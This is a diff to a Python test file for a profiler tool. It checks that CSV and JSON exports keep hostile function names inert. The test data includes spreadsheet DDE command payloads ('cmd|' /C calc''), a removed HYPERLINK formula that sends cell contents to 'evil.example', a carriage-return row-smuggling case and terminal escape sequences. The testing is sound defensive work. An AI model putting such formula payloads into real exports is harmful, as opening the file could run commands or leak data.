@@ -245,9 +245,32 @@ def test_csv_parses_and_keeps_formulas_inert(hostile, command, by):
             else:
                 assert int(cells[col]) == want[key][col], (key, col)
     if command == "diff":
+        # Shrinking groups: plain negative numbers, not neutralised text.
         negative = [c["delta_bytes"] for c in got.values() if int(c["delta_bytes"]) < 0]
-        assert negative, "the hostile diff has shrinking groups"
+        assert len(negative) == sum(1 for v in want.values() if v["delta_bytes"] < 0)
+        assert negative or by not in ("site", "function", "file", "stack")
         assert all(c.startswith("-") and c[1:].isdigit() for c in negative)
+
+
+def test_csv_carriage_return_cannot_smuggle_a_formula_row(tmp_path):
+    """A name with a CR in the middle (not at the start, so not neutralised)
+    must be quoted: a bare CR ends the record for the csv module and for
+    spreadsheets, and the rest of the name would start a row with a formula."""
+    p = pb.Profile()
+    p.string_table.extend([b"", b"space", b"bytes", b"x\r=cmd|' /C calc'!A0", b"a.py"])
+    p.sample_type.add(type=1, unit=2)
+    p.function.add(id=1, name=3, filename=4)
+    p.location.add(id=1, line=[pb.Line(function_id=1, line=1)])
+    p.sample.add(location_id=[1], value=[4096])
+    (tmp_path / "cr.prof").write_bytes(p.SerializeToString())
+    proc = run_cli_bytes("show", "cr.prof", "--csv", "-", cwd=tmp_path)
+    assert proc.returncode == 0, proc.stderr.decode(errors="replace")
+    records = list(csv.reader(io.StringIO(proc.stdout.decode("utf-8"), newline="")))
+    name = "x\r=cmd|' /C calc'!A0"
+    assert records == [
+        ["site", "file", "line", "function", "bytes", "count", "share"],
+        [f"a.py:1 ({name})", "a.py", "1", name, "4096", "0", "1.0"],
+    ]
 
 
 def test_csv_file_matches_csv_stdout(hostile):
@@ -331,6 +354,6 @@ def test_json_round_trips_the_names(hostile, command, by):
         # Invalid UTF-8 arrives as backslash escapes; everything else unchanged.
         assert "bad\\xff\\xfeutf8" in functions
         assert "\\xed\\xa0\\x80surrogate" in functions
-        assert '=HYPERLINK("http://evil.example/?q="&A1,"click me")' in functions
+        assert "+cmd|' /C calc'!A0" in functions
         assert "\r=1+1" in functions and "\x1b]0;title\x07" in functions
         assert "evil\u202egnp" in functions and "caf\u00e9 \u2713" in functions
